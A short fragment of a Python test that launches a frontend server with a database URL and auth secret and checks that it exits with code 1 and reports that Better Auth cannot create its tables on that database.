    server = start(frontend, free_port(), {"DATABASE_URL": url, "BETTER_AUTH_SECRET": SECRET}, subprocess.PIPE)
    _, said = server.communicate()
    assert server.returncode == 1
    assert "The tables of Better Auth cannot be made on DATABASE_URL: " in said
